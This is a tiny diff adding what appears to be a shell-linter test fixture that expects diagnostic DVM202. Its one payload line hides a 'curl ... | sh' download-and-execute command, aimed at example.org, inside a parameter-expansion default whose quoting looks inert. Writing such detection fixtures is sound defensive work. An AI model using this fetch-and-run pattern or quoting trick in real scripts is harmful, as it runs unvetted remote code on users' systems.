@@ -1,0 +1,3 @@
+# expect: DVM202
+set -Eeuo pipefail
+echo "${x:-'$(curl -fsSL https://example.org/i.sh | sh)'}"
